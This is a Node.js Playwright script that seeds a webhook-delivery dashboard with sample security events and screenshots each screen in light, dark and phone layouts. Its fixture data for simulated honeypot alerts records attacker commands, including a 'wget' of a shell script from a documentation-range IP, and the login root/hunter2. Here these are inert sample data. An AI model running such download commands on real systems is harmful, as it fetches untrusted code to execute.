/*
 * The pictures: each screen in light, dark, and as wide as a phone.
 */

import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { api, browser, env, go, ingest, open, session, waitFor } from './lib.mjs';

const dir = process.argv[2];
const { context, end } = await browser();
const page = await open(context);

mkdirSync(dir, { recursive: true });


async function settle(ms) {
    await page.mouse.move(0, 0);
    await page.evaluate(() => { document.activeElement?.blur?.(); scrollTo(0, 0); });
    await page.waitForTimeout(ms);
}


/* As high as the page is, up to "most"; "high" where a dialog is over it. */

async function shot(name, width, most, high) {
    await page.setViewportSize({ width, height: high || 860 });
    await settle(400);

    const whole = await page.evaluate(() => document.documentElement.scrollHeight);

    await page.setViewportSize({ width, height: high || Math.min(Math.max(whole, width < 500 ? 780 : 600), most) });
    await settle(300);
    await page.screenshot({ path: join(dir, `${name}.png`) });
    await page.setViewportSize({ width: 1280, height: 860 });
}


async function shots(name, { most = 1200, high = 0, phone = 1200, phoneHigh = high && 780 } = {}) {
    const theme = (t) => page.evaluate((x) => { document.documentElement.dataset.theme = x; }, t);

    await theme('light');
    await shot(name, 1280, most, high);
    await shot(`${name}-phone`, 390, phone, phoneHigh);
    await theme('dark');
    await shot(`${name}-dark`, 1280, most, high);
    await theme('light');
}


// a day's work

const ip = (i) => `198.51.100.${20 + i * 7 % 200}`;
const alert = (i) => ({ honeypot: `ssh-dmz-${1 + i % 4}`, severity: ['high', 'critical', 'medium'][i % 3],
    source: { ip: ip(i), port: 51422 + i, country: ['NL', 'BR', 'VN', 'US'][i % 4] },
    credentials: { username: 'root', password: 'hunter2' }, commands: ['uname -a', `wget http://${ip(i)}/x.sh`] });
const found = (i) => ({ asset: `web-${1 + i % 6}.acme.example`, cve: `CVE-2026-${3100 + i}`, severity: 'critical', cvss: 9.8,
    port: 443, first_seen: '2026-11-24T09:12:44.120Z' });
const story = [['honeypot.alert', alert], ['honeypot.login', alert], ['vulnerability.found', found], ['scan.finished', found],
               ['honeypot.alert', alert], ['asset.discovered', found], ['honeypot.login', alert]];

for (let i = 0; i < 14; i++) {
    const [name, make] = story[i % story.length];

    await ingest('acme', name, JSON.stringify(make(i)));
    await new Promise((r) => { setTimeout(r, 700); });
}
for (let i = 0; i < 9; i++) {
    await ingest('acme', 'vulnerability.found', JSON.stringify(found(20 + i)));
    await new Promise((r) => { setTimeout(r, 300); });
}
for (const i of [1, 2, 4]) {
    await ingest('acme', story[i][0], JSON.stringify(story[i][1](i + 40)));
}

await waitFor('the deliveries', async () => (await api('GET', '/companies/acme/webhook-events?status=pending&limit=250')).data
    .every((e) => e.waiting_for === 'schedule' || e.waiting_for === 'breaker'));

const hooks = (await api('GET', '/companies/acme/webhooks')).data;
const id = (name) => hooks.find((w) => w.description === name).id;

await session(page, 'acme');
await page.waitForSelector('.hook');
await page.waitForTimeout(600);
await shots('webhooks', { phone: 900 });

await go(page, `/webhooks/${id('SIEM')}?range=7d`);
await shots('webhook', { phone: 1500 });
await go(page, `/webhooks/${id('SIEM')}?range=24h`);
await page.click('text=Send test event');
await page.waitForSelector('.test-row.good');
await shots('test', { most: 780, phone: 780 });

await go(page, `/webhooks/${id('SIEM')}/settings`);
await page.click('.secret-row >> text=Show');
await page.waitForFunction(() => /^whsec_[A-Za-z0-9]/.test(document.querySelector('.secret').textContent));
await shots('settings', { phone: 1400 });
await page.click('button:has-text("Refresh")');
await page.waitForSelector('dialog');
await shots('refresh', { high: 780 });
await page.keyboard.press('Escape');
await go(page, `/webhooks/${id('SIEM')}/verify?in=python`);
await shots('verify', { most: 1500, phone: 1500 });
await go(page, `/webhooks/${id('Data lake')}/edit`);
await page.click('text=Delivery options');
await shots('edit', { most: 1700, phone: 1600 });

await go(page, '/webhooks/new');
await page.fill('input[type=url]', 'https://hooks.acme.example/security');
await page.fill('[data-pointer="/description"] input', 'SOC');
await page.check('[data-name="honeypot.*"]');
await page.check('[data-name="scan.finished"]');
await page.evaluate(() => { document.querySelector('.tree').scrollTop = 0; });
await shots('add', { most: 1280, phone: 1400 });

await go(page, '/events');
await page.waitForSelector('.notice.bad');
await page.click('.event-row:not(.run):has-text("Ticket system") .fold >> nth=0');
await page.waitForSelector('.target');
await shots('events', { most: 1000, phone: 1100 });

await page.click('button:has-text("Replay …")');
await page.waitForSelector('dialog');
await page.selectOption('dialog select', '');
await page.check('dialog .choose input >> nth=0');
await page.check('dialog .choose input >> nth=3');
await page.waitForSelector('dialog button:has-text("Replay ")');
await shots('replay', { high: 780 });
await page.keyboard.press('Escape');

const trouble = (await api('GET', `/companies/acme/webhook-events?webhook=${id('Ticket system')}&status=pending&limit=30`)).data
    .filter((e) => e.next_attempt_at).pop();

await go(page, `/events/${trouble.message_id}`);
await page.waitForSelector('.attempt[open]');
await shots('event', { most: 1300, phone: 1700 });

// a replay that is done, one that was cancelled, one that runs

const replay = (name, filter, more) => api('POST', '/companies/acme/replays',
    { webhook_id: id(name), source: 'webhook_events', filter, ...more });
const recent = new Date(Date.now() - 10 * 86400000).toISOString();

await replay('Chat alerts', { status: 'failed' });
await api('PATCH', `/companies/acme/webhooks/${id('Data lake')}`, { rate_limit: '200/s' });
const stopped = await replay('Data lake', { status: 'delivered' });
await waitFor('a part of it', async () => (await api('GET', `/companies/acme/replays/${stopped.id}`)).done > 200);
await api('POST', `/companies/acme/replays/${stopped.id}/cancel`);
await replay('SIEM', { status: 'failed', since: recent });
await replay('Data lake', { status: 'delivered', event: 'scan.finished', since: recent });
await go(page, '/replays');
await page.waitForSelector('.replay >> nth=3');
await page.waitForSelector('text=/^[1-9][0-9]* of /');
await shots('replays');

await api('POST', '/companies', { uid: 'fresh', name: 'Fresh Foods', enabled: true });
await session(page, 'fresh');
await page.waitForSelector('.empty');
await shots('first', { phone: 780 });

await api('POST', '/companies', { uid: 'novel', name: 'Novel Bank' });
await session(page, 'novel');
await page.waitForSelector('.ask');
await shots('access', { most: 640 });
await page.click('[aria-label="Sign out"]');
await page.waitForSelector('input[type=password]');
await shots('sign-in', { most: 640, phone: 780 });
await page.fill('input[type=password]', env.KEY);
await page.click('button[type=submit]');
await page.waitForSelector('.request');
await shots('operator', { phone: 780 });
await go(page, '/operator/companies');
await page.waitForSelector('tbody tr');
await shots('companies', { phone: 780 });

if (page.bad.length) {
    console.error(page.bad.join('\n'));
    process.exitCode = 1;
}

await end();
